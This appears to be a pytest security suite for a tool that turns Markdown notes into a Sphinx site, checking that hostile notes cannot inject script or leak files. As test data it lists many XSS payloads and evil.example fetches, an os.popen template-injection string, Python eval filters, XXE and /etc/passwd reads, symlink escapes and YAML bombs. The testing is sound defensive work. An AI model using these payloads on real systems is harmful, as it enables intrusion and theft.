# ruff: noqa: E501  (an attack is read best in one line)
"""Notes come from strangers: nothing that a vault holds reaches further than its own words.

Attacks are built for real and all that came out is looked at: tags, attributes, addresses,
files, and whether the other note of the vault is still there. Each attack by itself, through every
command, is a case of ``tests/hostile``.
"""

from __future__ import annotations

import json
import os
import re
from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from bs4.element import Tag
from conftest import Build, Built, Files, Vault

from vademecum.vault.index import Match, VaultIndex
from vademecum.vault.names import NotePath

pytestmark = pytest.mark.slow

SAFE = {"Saine.md": "# Saine\n\nTexte sain.\n"}
CANARY = "CANARI-4711"
SCHEMES = ("", "http", "https", "mailto", "tel", "obsidian")
ACTIVE = {"iframe", "frame", "embed", "applet", "base", "portal", "template", "textarea"}
FETCHING = ("src", "srcset", "poster", "data", "background", "ping", "formaction", "xlink:href")


def elements(built: Built) -> list[tuple[str, Tag]]:
    """Every element of every page, with the page that holds it."""
    found = []
    for path in sorted(built.outdir.rglob("*.html")):
        page = path.relative_to(built.outdir).as_posix()
        soup = BeautifulSoup(path.read_text(encoding="utf-8"), "html.parser")
        found.extend((page, tag) for tag in soup.find_all(True))
    return found


def fingerprint(tag: Tag) -> tuple[str, str, str, str]:
    """What an element of the theme is, wherever its page stands."""
    source = re.sub(r"^(\.\./)+", "", str(tag.get("src", tag.get("action", ""))))
    return tag.name, source, str(tag.get("id", "")), tag.get_text()


@pytest.fixture(scope="module")
def own(tmp_path_factory: pytest.TempPathFactory) -> set[tuple[str, str, str, str]]:
    """The scripts and form elements that the theme itself puts on pages."""
    base = tmp_path_factory.mktemp("own")
    (base / "vault").mkdir()
    vault = Vault(base / "vault", base / "work")
    vault.write({**SAFE, **EVERYTHING})
    return {fingerprint(tag) for _, tag in elements(vault.build()) if tag.name in THEMES_OWN}


EVERYTHING = {
    "S.md": "---\ncompetences: true\n---\n## Curation\n\n- Décrire ^cur-01\n  - niveau 1:: Un.\n",
    "Besoins.md": '```{needlist}\n:filter: type == "skill"\n```\n\n```{needtable}\n:style: datatables\n```\n',
    "Onglets.md": "````{tab-set}\n```{tab-item} Un\nx\n```\n````\n\n```{dropdown} Deux\ny\n```\n",
}
"""What makes pages load each script that the theme and the extensions have."""
THEMES_OWN = {
    "script",
    "form",
    "input",
    "button",
    "select",
    "option",
    "style",
    "svg",
    "meta",
    "link",
    "dialog",
}
OWN_TEMPLATES = {"v-skill-template", "v-result-template", "v-gap-template"}
"""Pieces of the plan that its script copies; a browser shows and runs nothing of them."""
COUNTED = {"script", "form", "input", "button", "select", "style", "dialog"}


def assert_harmless(built: Built, own: set[tuple[str, str, str, str]]) -> None:
    """Look at every element of every page, and at every file."""
    for page, tag in elements(built):
        where = f"{page}: {str(tag)[:200]}"
        assert tag.name not in ACTIVE or _is_own_template(page, tag), where
        if tag.name in COUNTED and not _of_theme(tag) and not _is_own_data(page, tag):
            assert fingerprint(tag) in own, where
        _assert_attributes(tag, where)
    assert "Texte sain." in built.text("saine")
    assert "Traceback" not in built.stderr + built.stdout
    assert "note-failed" not in built.codes
    for name, data in built.files().items():
        assert CANARY.encode() not in data, name


def _is_own_template(page: str, tag: Tag) -> bool:
    return page == "mon-plan.html" and tag.name == "template" and tag.get("id") in OWN_TEMPLATES


WITH_RECORD = {"mon-plan.html", "equipe.html", "catalogue.html", "search.html"}
"""Pages whose scripts are given a record."""


def _is_own_data(page: str, tag: Tag) -> bool:
    """A page's own data block: JSON, which no browser runs, and no way out of the block in it."""
    ld = (
        page.startswith("competences/")
        and tag.attrs == {"type": "application/ld+json"}
        and tag.parent is not None
        and tag.parent.name == "head"
    )
    plan = page in WITH_RECORD and tag.attrs == {"type": "application/json", "id": "v-page"}
    if tag.name != "script" or not (ld or plan):
        return False
    assert json.loads(tag.get_text()) is not None and "<" not in tag.get_text(), page
    return True


def _of_theme(tag: Tag) -> bool:
    """The catalogue's form holds what a vault's fields say, as text in values and labels."""
    return tag.name in {"input", "button", "select", "form"} and not any(
        parent.name == "section" and parent.get("id") for parent in tag.parents
    )


def _assert_attributes(tag: Tag, where: str) -> None:
    for name, value in tag.attrs.items():
        text = " ".join(value) if isinstance(value, list) else str(value)
        assert not name.lower().startswith("on"), where
        assert name.lower() != "srcdoc", where
        if name.lower() in FETCHING:
            assert not re.match(r"\s*([a-z][a-z0-9+.-]*:|//)", text, re.I) or text.startswith(
                "data:image/"
            ), where
        if name.lower() in {"href", "action", "cite"} and tag.name != "link":
            scheme = re.match(r"[\s\x00-\x20]*([^/?#:]*):", re.sub(r"[\t\n\r]", "", text))
            assert (scheme[1].lower() if scheme else "") in SCHEMES, where
        if name.lower() == "style":
            assert "url(" not in text.lower() and "expression" not in text.lower(), where
    if tag.name == "link":
        assert "//" not in str(tag.get("href", "")), where
    if tag.name == "meta" and str(tag.get("http-equiv", "")).lower() == "refresh":
        assert OWN_REFRESH.fullmatch(str(tag.get("content"))), where


OWN_REFRESH = re.compile(r"0; url=(\.\./)*[\w-]+(/[\w-]+)*\.html")
"""A page that has moved leads to a page of this site, by a relative address."""

XSS = '"><script>alert(1)</script><img src=x onerror=alert(1)>'

NOTES = {
    "script block": "<script>alert(1)</script>\n\nfin\n",
    "script in a line": "avant <script>alert(1)</script> après\n",
    "script never closed": "<script>alert(1)\n\n# Titre\n\n[[Saine]]\n",
    "script after a comment": "<!-- --><script>alert(1)</script>\n",
    "script split over lines": "a <script\n>alert(1)</script\n> b\n",
    "script in a table": "| a |\n| --- |\n| <script>alert(1)</script> |\n",
    "script in a callout title": "> [!note] <script>alert(1)</script>\n> <svg onload=alert(1)>\n",
    "iframe": '<iframe src="https://evil.example/"></iframe>\n\nx <iframe srcdoc="<script>1</script>"></iframe> y\n',
    "object and embed": '<object data="https://evil.example/x.swf"></object>\n\n<embed src="//evil.example/x">\n',
    "form": '<form action="https://evil.example/"><input name="q"><button>Go</button></form>\n\na <input onfocus=alert(1) autofocus> b\n',
    "base and meta": '<base href="https://evil.example/">\n\n<meta http-equiv="refresh" content="0;url=https://evil.example/">\n\n<link rel="stylesheet" href="https://evil.example/x.css">\n',
    "style": "<style>@import url(https://evil.example/x.css);</style>\n\n<p style=\"background:url(https://evil.example/x)\">p</p>\n\na <b style='x:expression(alert(1))'>b</b>\n",
    "handlers": '<div onclick="alert(1)">bloc</div>\n\na <b onmouseover=alert(1)>gras</b> <details ontoggle=alert(1) open>d</details>\n',
    "svg and math": "<svg onload=alert(1)><script>alert(1)</script></svg>\n\n<math><mi xlink:href='javascript:alert(1)'>x</mi></math>\n\na <svg/onload=alert(1)> b\n",
    "picture tags": '<img src=x onerror=alert(1)>\n\na <img src="https://evil.example/p.png"> <img src="//evil.example/p.png"> <img srcset="https://evil.example/p.png 2x"> b\n\n<picture><source srcset="https://evil.example/p.png"><img src="x"></picture>\n',
    "media tags": '<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png"></video>\n\na <audio src="https://evil.example/a.mp3" autoplay></audio> b\n',
    "HTML links": '<a href="javascript:alert(1)">a</a>\n\nx <a href="JaVaScRiPt:alert(1)">b</a> <a href=" javascript:alert(1)">c</a> <a href="java&#10;script:alert(1)">d</a> <a href="data:text/html,<script>1</script>">e</a> <a href="vbscript:x">f</a> <a ping="https://evil.example/" href="https://ok.example/">g</a>\n',
    "Markdown links": "[a](javascript:alert(1)) [b](JAVASCRIPT:alert(1)) [c](<java script:alert(1)>) [d](data:text/html;base64,PHNjcmlwdD4=) [e](vbscript:x) [f](&#106;avascript:alert(1)) [g](javascript&colon;alert(1)) [h](\\javascript:alert(1)) [i](file:///etc/passwd)\n",
    "control characters in links": "[a](java\u0001script:alert(1)) [b](\u00a0javascript:alert(1)) [c](java\u200bscript:alert(1)) [d](<\tjavascript:alert(1)>)\n",
    "reference definitions": '[a] [b][c]\n\n[a]: javascript:alert(1)\n[c]: <data:text/html,x> "t" \n',
    "autolinks": "<javascript:alert(1)> <data:text/html,x> <vbscript:x> <file:///etc/passwd>\n",
    "MyST links": "[a](project:x) [b](inv:x#y) [c](path:/etc/passwd) [d](myst:x) <project:#x> [](path:../../conf.py)\n",
    "Markdown pictures": "![a](javascript:alert(1)) ![b](https://evil.example/p.png) ![c](//evil.example/p.png) ![d](data:text/html,<script>1</script>) ![e](data:image/svg+xml,<svg/onload=alert(1)>) ![f](file:///etc/passwd)\n",
    "wikilinks": f"[[javascript:alert(1)]] [[Saine|{XSS}]] [[{XSS}]] [[Saine#{XSS}]] ![[{XSS}]] ![[https://evil.example/p.png]] ![[x.png|{XSS}]]\n",
    "callout kinds": f'> [!{XSS}] titre\n> texte\n\n> [!note" onclick="alert(1)]\n> texte\n\n> [!note onclick=alert(1)]- x\n> y\n',
    "headings": f"# {XSS}\n\n## <b onclick=alert(1)>x</b>\n\n### [x](javascript:alert(1))\n",
    "tags and block ids": '#a"onclick="x #<script> texte ^a"b\n\nbloc ^onclick\n',
    "front matter": f"---\ntitle: '{XSS}'\ntags: ['{XSS}', '<script>']\naliases: ['{XSS}']\nstatut: '{XSS}'\ndate: '2022-01-01{XSS}'\nparent: '{XSS}'\nlang: '{XSS}'\ndescription: '{XSS}'\n---\nx\n",
    "front matter for Sphinx": "---\nhtml_theme: x\nmyst:\n  substitutions:\n    a: <script>alert(1)</script>\n  html_meta:\n    refresh: x\n  enable_extensions: [substitution, attrs_inline, attrs_block, html_image]\nsubstitutions:\n  a: '<script>'\nhtml_meta:\n  'http-equiv=refresh': '0;url=https://evil.example/'\nnocomments: true\ntocdepth: 99\norphan: false\n---\n{{ a }} {{ cycler.__init__.__globals__.os.popen('id').read() }}\n",
    "math": "$\\href{javascript:alert(1)}{x}$ $<script>alert(1)</script>$\n\n$$\n</math><script>alert(1)</script>\n$$\n",
    "mermaid": '```mermaid\ngraph TD\n  A["<img src=x onerror=alert(1)>"] --> B\n  click A "javascript:alert(1)"\n</pre><script>alert(1)</script>\n```\n',
    "fences": f"```{{raw}} html\n<script>alert(1)</script>\n```\n\n```html\n<script>alert(1)</script>\n```\n\n```{XSS}\nx\n```\n",
    "colon fences": "::: {raw} html\n<script>alert(1)</script>\n:::\n\n:::{raw} html\n<script>alert(1)</script>\n:::\n",
    "attributes": '[x](https://ok.example/){onclick=alert(1) style="background:url(//evil.example)"}\n\n{onclick=alert(1)}\nparagraphe\n',
    "roles": '{raw-html}`<script>alert(1)</script>` {raw}`x` {eval-rst}`x` {need_part}`x` {download}`/etc/passwd` {octicon}`x` {fas}`"><script>` {abbr}`HTML ("><script>alert(1)</script>)` {kbd}`<script>` {code}`<script>`\n',
    "classes": '```{container} "onclick=alert(1)\nx\n```\n\n```{div} a" onclick="alert(1)\nx\n```\n\n```{code-block} "><script>\nx\n```\n',
    "design links": "```{button-link} javascript:alert(1)\nclic\n```\n\n```{card} t\n:link: javascript:alert(1)\n:img-top: https://evil.example/p.png\nx\n```\n\n```{grid-item-card} t\n:link: data:text/html,x\nx\n```\n",
    "design pictures": "```{card} t\n:img-background: //evil.example/p.png\nx\n```\n\n```{figure} https://evil.example/p.png\n:target: javascript:alert(1)\nlégende\n```\n\n```{image} javascript:alert(1)\n:target: javascript:alert(1)\n```\n",
    "admonition titles": f'```{{admonition}} {XSS}\n:class: a" onclick="x\nx\n```\n\n```{{note}} <script>alert(1)</script>\n```\n',
    "toctree": "```{toctree}\n:glob:\nx <javascript:alert(1)>\n*\nhttps://evil.example/\n/etc/passwd\n../../conf\n```\n",
    "comments": "%%<script>alert(1)</script>%% <!-- <script>alert(1)</script> --> <!--><script>alert(1)</script>-->\n",
    "doctype and CDATA": "<!DOCTYPE html [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\n\n<![CDATA[<script>alert(1)</script>]]>\n\n<?php system('id') ?>\n",
    "nested broken HTML": "<div><b><script>a</b></div></script>\n\n</div></main></body></html><script>alert(1)</script>\n\na </p></div><scr<script>ipt>alert(1)</script> b\n",
    "noscript trick": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>\n\n<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>\n',
    "footnotes": f"x[^a] ^[{XSS}]\n\n[^a]: {XSS} [y](javascript:alert(1))\n",
    "skills": f'---\ncompetences: true\n---\n## {XSS} : {XSS}\n\n- {XSS} ^xss-01\n  - niveau 1:: {XSS}\n  - " onclick=alert(1) x:: {XSS}\n  - {XSS}:: y\n  - Voir [[{XSS}]]\n',
    "definition of a link target": '(javascript:alert(1))=\n# Titre\n\n("><script>)=\n## Deux\n',
}


def test_all_attacks_in_one_vault(build: Build, own: set[tuple[str, str, str, str]]) -> None:
    files = {f"Attaque {i}.md": text for i, text in enumerate(NOTES.values())}
    assert_harmless(build({**SAFE, **files}), own)


def test_directives_cannot_hide_the_rest(build: Build) -> None:
    built = build(
        {**SAFE, "A.md": "Avant.\n\n```{raw} html\n<script>x</script>\n```\n\nAprès [[Saine]].\n"}
    )
    assert built.warned("directive-refused") == [("A.md", 3)]
    assert "Avant." in built.text("a") and built.link("a", "Saine") == "saine.html"


FILE_NAMES = [
    '"><img src=x onerror=alert(1)>.md',
    "<script>alert(1)<∕script>.md",
    "' onclick='alert(1).md",
    "javascript:alert(1).md",
    "&lt;script&gt;.md",
    "{% raw %}{{ config }}.md",
    "a\nb.md",
    "a\u202eb.md",
    "..md",
    "...md",
    "%2e%2e%2fx.md",
    "CON.md",
]


@pytest.mark.parametrize("name", FILE_NAMES)
def test_file_name(build: Build, own: set[tuple[str, str, str, str]], name: str) -> None:
    built = build(
        {
            **SAFE,
            name: "# \n\nTexte\n\n![[Saine]]\n",
            f"x/{name}": "Texte\n",
            "Liens.md": f"[[{name[:-3]}]]\n",
        }
    )
    assert_harmless(built, own)
    assert all(path.resolve().is_relative_to(built.outdir) for path in built.outdir.rglob("*"))


@pytest.mark.parametrize(
    "name",
    [
        '"><img src=x onerror=alert(1)>.png',
        "' onclick='alert(1).pdf",
        "javascript:alert(1).mp3",
        "a#b?c%41.png",
    ],
)
def test_attachment_name(build: Build, own: set[tuple[str, str, str, str]], name: str) -> None:
    assert_harmless(
        build({**SAFE, name: b"x", "Note.md": f"![[{name}]] [[{name}]] [x](<{name}>)\n"}), own
    )


# --- files outside the vault ---------------------------------------------------------------------


def test_link_to_a_file_outside(vault: Vault, own: set[tuple[str, str, str, str]]) -> None:
    outside = vault.folder.parent / "dehors"
    outside.mkdir()
    (outside / "secret.md").write_text(f"# Secret\n\n{CANARY}\n")
    (outside / "secret.png").write_text(CANARY)
    vault.write({**SAFE, "Note.md": "![[lien]] ![[photo.png]] [[lien]] ![[dossier/secret]]\n"})
    (vault.folder / "lien.md").symlink_to(outside / "secret.md")
    (vault.folder / "photo.png").symlink_to(outside / "secret.png")
    (vault.folder / "dossier").symlink_to(outside)
    built = vault.build()
    assert_harmless(built, own)
    assert sorted(built.warned("outside-vault")) == [
        ("dossier", 1),
        ("lien.md", 1),
        ("photo.png", 1),
    ]


def test_link_to_the_secret_beside_the_root(
    vault: Vault, own: set[tuple[str, str, str, str]]
) -> None:
    """A folder whose name begins like the vault's is not inside it."""
    beside = vault.folder.with_name("vault-prive")
    beside.mkdir()
    (beside / "secret.md").write_text(f"{CANARY}\n")
    vault.write(SAFE)
    (vault.folder / "lien.md").symlink_to(beside / "secret.md")
    built = vault.build()
    assert_harmless(built, own)
    assert built.codes == ["outside-vault"]


def test_loops_of_links(vault: Vault, own: set[tuple[str, str, str, str]]) -> None:
    vault.write({**SAFE, "a/Note.md": "Texte.\n"})
    (vault.folder / "a" / "boucle").symlink_to(vault.folder)
    (vault.folder / "tourne.md").symlink_to("tourne.md")
    (vault.folder / "perdu.md").symlink_to("rien.md")
    (vault.folder / "Jumelle.md").symlink_to("Saine.md")
    built = vault.build()
    assert_harmless(built, own)
    assert sorted(n.path for n in built.domain.notes.values()) == [
        "",
        "Jumelle.md",
        "Saine.md",
        "a/Note.md",
    ]


def test_files_that_are_none(vault: Vault, own: set[tuple[str, str, str, str]]) -> None:
    vault.write(SAFE)
    os.mkfifo(vault.folder / "Tube.md")
    os.mkfifo(vault.folder / "tube.png")
    (vault.folder / "Zero.md").symlink_to("/dev/zero")
    vault.write({"Note.md": "![[Tube]] ![[tube.png]] ![[Zero]]\n"})
    assert_harmless(vault.build(), own)


def test_hidden_folders_do_not_exist(build: Build, own: set[tuple[str, str, str, str]]) -> None:
    built = build(
        {
            **SAFE,
            ".trash/Jetée.md": f"{CANARY}\n",
            ".obsidian/app.md": f"{CANARY}\n",
            ".git/x.png": CANARY,
            ".env": CANARY,
            "Note.md": "![[Jetée]] ![[.trash/Jetée]] ![[.git/x.png]] [x](.env) [y](.git/x.png)\n",
        }
    )
    assert_harmless(built, own)


# --- attachments ---------------------------------------------------------------------------------


SVGS = {
    "script": "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
    "handler": "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "foreign": "<svg xmlns='http://www.w3.org/2000/svg'><foreignObject><body xmlns='http://www.w3.org/1999/xhtml'/></foreignObject></svg>",
    "link": "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "remote": "<svg xmlns='http://www.w3.org/2000/svg'><image href='https://evil.example/p.png'/></svg>",
    "remote style": "<svg xmlns='http://www.w3.org/2000/svg'><style>@import 'https://evil.example/x.css';</style></svg>",
    "style attribute": "<svg xmlns='http://www.w3.org/2000/svg'><rect style='fill:url(https://evil.example/x)'/></svg>",
    "instruction": "<?xml-stylesheet href='https://evil.example/x.xsl' type='text/xsl'?><svg xmlns='http://www.w3.org/2000/svg'/>",
    "entities": "<!DOCTYPE svg [<!ENTITY a 'aaaa'><!ENTITY b '&a;&a;'>]><svg xmlns='http://www.w3.org/2000/svg'>&b;</svg>",
    "UTF-16": "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>".encode(
        "utf-16"
    ),
    "XHTML form": "<svg xmlns='http://www.w3.org/2000/svg'><h:form xmlns:h='http://www.w3.org/1999/xhtml'/></svg>",
    "escaped style": "<svg xmlns='http://www.w3.org/2000/svg'><rect fill='u\\72l(https://evil.example/x)'/></svg>",
    "image set": "<svg xmlns='http://www.w3.org/2000/svg'><style>rect { fill: image-set('https://evil.example/x' 1x) }</style></svg>",
    "animated link": "<svg xmlns='http://www.w3.org/2000/svg'><a><animate attributeName='href' values='javascript:alert(1)'/><text>x</text></a></svg>",
    "nested svg in data": "<svg xmlns='http://www.w3.org/2000/svg'><image href='data:image/svg+xml,&lt;svg onload=alert(1)&gt;'/></svg>",
    "XHTML inside": "<svg xmlns='http://www.w3.org/2000/svg'><h:script xmlns:h='http://www.w3.org/1999/xhtml'>alert(1)</h:script></svg>",
    "no XML": "pas du XML <script>alert(1)</script>",
}


@pytest.mark.parametrize("kind", SVGS)
def test_svg_that_is_a_page(build: Build, own: set[tuple[str, str, str, str]], kind: str) -> None:
    built = build(
        {**SAFE, "dessin.svg": SVGS[kind], "Note.md": "![[dessin.svg]]\n\n[[dessin.svg]]\n"}
    )
    assert_harmless(built, own)
    assert set(built.warned("file-refused")) == {("Note.md", 1), ("Note.md", 3)}
    assert not [name for name in built.files() if name.endswith("dessin.svg")]


def test_harmless_svg_is_published(build: Build, own: set[tuple[str, str, str, str]]) -> None:
    svg = (
        "<?xml version='1.0'?><!DOCTYPE svg PUBLIC '-//W3C//DTD SVG 1.1//EN' "
        "'http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd'><svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' "
        "viewBox='0 0 1 1'><style>rect { fill: url(#g) }</style><linearGradient id='g'/>"
        "<rect id='r' fill='url(#g)'/><use xlink:href='#r'/></svg>"
    )
    built = build({**SAFE, "dessin.svg": svg, "Note.md": "![[dessin.svg]]\n"})
    assert_harmless(built, own)
    assert built.codes == []
    assert built.body("note").find("img")["src"].endswith("dessin.svg")


@pytest.mark.parametrize(
    "name",
    [
        "page.html",
        "page.htm",
        "page.xhtml",
        "page.xml",
        "x.js",
        "x.css",
        "x.swf",
        "x.mhtml",
        "x.svgz",
        "x.hta",
        "x.PHP",
        "x.shtml",
    ],
)
def test_attachment_that_could_be_a_page(
    build: Build, own: set[tuple[str, str, str, str]], name: str
) -> None:
    built = build(
        {
            **SAFE,
            name: f"<script>alert('{CANARY}')</script>",
            "Note.md": f"![[{name}]]\n\n[x]({name})\n",
        }
    )
    assert_harmless(built, own)
    assert set(built.warned("file-refused")) == {("Note.md", 1), ("Note.md", 3)}


def test_attachment_that_nobody_shows_stays_at_home(
    build: Build, own: set[tuple[str, str, str, str]]
) -> None:
    assert_harmless(
        build(
            {**SAFE, "privé.pdf": CANARY, "_static/x.js": CANARY, "_templates/layout.html": CANARY}
        ),
        own,
    )


def test_vault_cannot_configure_sphinx(build: Build, own: set[tuple[str, str, str, str]]) -> None:
    ran = "open('RAN', 'w').close()"
    built = build(
        {
            **SAFE,
            "conf.py": ran,
            "_ext/vademecum.py": ran,
            "docutils.conf": "[general]\nraw_enabled: 1\nfile_insertion_enabled: 1\n",
            "_templates/layout.html": CANARY,
            "ubproject.toml": "[needs]\nid_required = true\n",
            "needs_config.toml": "[needs]\nid_required = true\n",
            "needs.json": "{}",
            "robots.txt": CANARY,
        }
    )
    assert_harmless(built, own)
    assert built.codes == []
    assert not Path("RAN").exists()


# --- sphinx-needs --------------------------------------------------------------------------------


SKILLED = "---\ncompetences: true\n---\n## Curation\n\n- Décrire ^cur-01\n- Classer ^cur-02\n"
EVAL = '__import__("pathlib").Path("{ran}").touch() or True'

FILTERS = {
    "needtable": "```{needtable}\n:filter: {eval}\n```\n",
    "needlist": "```{needlist}\n:filter: {eval}\n```\n",
    "needtable code": "```{needtable}\n{eval}\n```\n",
    "needlist code": "```{needlist}\n\nimport pathlib\npathlib.Path('{ran}').touch()\nresults = []\n```\n",
    "needtable function": "```{needtable}\n:filter-func: os.system({ran})\n```\n",
    "filter warning": '```{needtable}\n:filter: id == "X"\n:filter_warning: [[{eval}]]\n```\n',
    "need_count": "{need_count}`{eval}`\n",
    "need_count ratio": '{need_count}`type == "skill" ? {eval}`\n',
    "needextend": "```{needextend} {eval}\n:status: open\n```\n",
    "needflow": "```{needflow}\n:filter: {eval}\n```\n",
    "needpie": "```{needpie} x\n{eval}\n```\n",
    "needbar": "```{needbar}\n{eval}, 1\n```\n",
    "needgantt": "```{needgantt}\n:filter: {eval}\n```\n",
    "needextract": "```{needextract}\n:filter: {eval}\n```\n",
    "needservice": "```{needservice} x\n```\n",
    "skill directive": '```{skill} [[echo("x")]]\n:id: CUR-99\n```\n',
    "resource directive": "```{resource} x\n:id: RES-99\n:status: [[{eval}]]\n```\n",
    "list2need": "```{list2need}\n:types: skill\n* (CUR-98) x\n```\n",
    "needuml": "```{needuml}\n{{ {eval} }}\n```\n",
    "sorted": '```{needtable}\n:filter: type == "skill"\n:sort: {eval}\n:columns: id;{eval}\n```\n',
    "role template": "{need}`[[ 7 * 7 ]] <CUR-01>` {need}`[[ range(99999) ]] <CUR-01>` {need}`{title.__class__} <CUR-01>` {need}`x <NON-01>`\n",
    "function with a filter": "```{needtable}\n:filter: type == \"skill\"\n:style_row: [[copy('id', filter='{eval}')]]\n```\n",
    "bad widths": "```{needtable}\n:columns: id;nope\n:colwidths: a,b,c\n```\n\n```{needtable}\n:columns: id;nope\n:colwidths: 1\n```\n",
    "styled": '```{needtable}\n:filter: type == "skill"\n:style_row: [[{eval}]]\n```\n',
    "nested": "````{note}\n```{needtable}\n:filter: {eval}\n```\n````\n",
}


@pytest.mark.parametrize("attack", FILTERS, ids=list(FILTERS))
def test_filter_runs_no_python(
    vault: Vault, own: set[tuple[str, str, str, str]], attack: str
) -> None:
    ran = vault.folder.parent / "ran"
    text = FILTERS[attack].replace("{eval}", EVAL).replace("{ran}", str(ran))
    vault.write({**SAFE, "S.md": SKILLED, "Attaque.md": text})
    built = vault.build()
    assert not ran.exists()
    assert_harmless(built, own)
    assert {n["id"] for n in built.needs().values() if n["type"] == "skill"} == {"CUR-01", "CUR-02"}


@pytest.mark.parametrize("attack", ["needtable", "needlist", "needtable code", "need_count"])
def test_filter_that_python_would_run_is_told(vault: Vault, attack: str) -> None:
    text = FILTERS[attack].replace("{eval}", "1 + 1 == 2")
    vault.write({**SAFE, "S.md": SKILLED, "Attaque.md": f"Texte.\n\n{text}"})
    built = vault.build()
    assert built.codes == ["filter-refused"]
    assert built.warned("filter-refused") == [("Attaque.md", 3)]


def test_portable_filter_works(build: Build) -> None:
    text = '```{needlist}\n:filter: domain == "curation" and type == "skill"\n```\n\n{need_count}`type == "skill"` en tout\n'
    built = build({**SAFE, "S.md": SKILLED, "Liste.md": text})
    assert built.codes == []
    assert "Décrire" in built.text("liste") and "Classer" in built.text("liste")
    assert "2 en tout" in built.text("liste")


TITLES = [
    "Lire [[echo('x')]]",
    "Écrire `[[echo('x')]]` en code",
    "Lier `<<copy('id', 'CUR-01')>>`",
    "Lier `<{copy('id')}>` et `:ndf:`",
    "Compter `{{ 7*7 }}` et `%(x)s`",
    "Nommer `[[copy('title', 'CUR-01')]]`",
]


@pytest.mark.parametrize("title", TITLES)
def test_title_runs_no_function_of_sphinx_needs(
    build: Build, own: set[tuple[str, str, str, str]], title: str
) -> None:
    text = f"---\ncompetences: true\n---\n## Curation\n\n- {title} ^cur-01\n  - {title}\n  - niveau 1:: {title}\n"
    built = build({**SAFE, "S.md": text, "T.md": '```{needlist}\n:filter: type == "skill"\n```\n'})
    wanted = (
        title.replace("`", "").replace("[[echo('x')]]", "echo('x')")
        if "`" not in title
        else title.replace("`", "")
    )
    need = built.needs()["CUR-01"]
    assert need["title"] == wanted
    assert need["content"] == wanted
    assert need["level_1"] == wanted
    assert wanted in built.text("t")
    assert_harmless(built, own)


# --- what would stall a build --------------------------------------------------------------------


FLOODS: dict[str, Files] = {
    "embed tree": {f"N{i}.md": "\n\n".join(f"![[N{i + 1}]]" for _ in range(12)) for i in range(6)},
    "embed ring": {f"N{i}.md": f"![[N{(i + 1) % 9}]]\n\n![[N{(i + 2) % 9}]]\n" for i in range(9)},
    "parents in a ring": {f"N{i}.md": f"---\nparent: N{(i + 1) % 50}\n---\nx\n" for i in range(50)},
    "YAML bomb": {
        "N.md": "---\na: &a [x,x,x,x,x,x,x,x,x]\n"
        + "".join(
            f"{chr(98 + i)}: &{chr(98 + i)} [{','.join(['*' + chr(97 + i)] * 9)}]\n"
            for i in range(9)
        )
        + "---\nx\n"
    },
    "deep quotes": {"N.md": ">" * 3_000 + " x\n"},
    "deep lists": {"N.md": "".join("  " * i + "- x\n" for i in range(300))},
    "deep callouts": {"N.md": "".join("> " * i + "[!note] x\n" for i in range(1, 150))},
    "deep emphasis": {"N.md": "*a **b " * 3_000},
    "deep brackets": {"N.md": "[" * 30_000 + "\n\n" + "[a](" * 8_000},
    "deep HTML": {"N.md": "<b>" * 3_000 + "x" + "</b>" * 3_000},
    "deep highlight": {"N.md": "==a " * 5_000 + "\n\n" + "==a== " * 5_000},
    "deep footnotes": {"N.md": "^[a " * 3_000 + "]" * 3_000},
    "wide table": {
        "N.md": "|a" * 3_000 + "|\n" + "|-" * 3_000 + "|\n" + ("|b" * 3_000 + "|\n") * 5
    },
    "deep headings": {"N.md": "".join(f"{'#' * (i % 6 + 1)} T{i}\n\n" for i in range(3_000))},
    "brackets never closed": {
        "N.md": "^[" * 10_000 + "\n\n" + "[a " * 10_000 + "\n\n" + "![[" * 10_000
    },
    "links in one line": {"N.md": "[[N]] " * 5_000},
    "deep link text": {"N.md": "![" * 3_000 + "](x)" * 3_000},
    "deep YAML": {"N.md": "---\na: " + "[" * 5_000 + "\n---\nx\n"},
    "deep directives": {"N.md": "".join(f"{':' * (60 - i)}{{note}}\n" for i in range(50)) + "x\n"},
    "deep folders": {"/".join(["d"] * 60) + "/N.md": "x\n"},
}


@pytest.mark.parametrize("flood", FLOODS, ids=list(FLOODS))
def test_flood(build: Build, own: set[tuple[str, str, str, str]], flood: str) -> None:
    built = build({**SAFE, **FLOODS[flood]})
    assert "Texte sain." in built.text("saine")
    assert sum(len(data) for data in built.files().values()) < 40_000_000


@pytest.mark.parametrize("sign", ["–", ":", ">", "/"])
def test_signs_in_a_target_are_looked_at_a_few_times(
    build: Build, monkeypatch: pytest.MonkeyPatch, sign: str
) -> None:
    """Each part of ``a–a–a…`` was looked up, and kept: the square of a link's length."""
    asked: list[int] = []
    look_up = VaultIndex.resolve

    def counted(index: VaultIndex, target: str, source: NotePath) -> Match:
        asked.append(len(target))
        return look_up(index, target, source)

    monkeypatch.setattr(VaultIndex, "resolve", counted)
    for count in (200, 4_000):
        asked.clear()
        build({"A.md": f"# A\n\n[[{f'a{sign}' * count}b]]\n"})
        assert 0 < len(asked) < 40
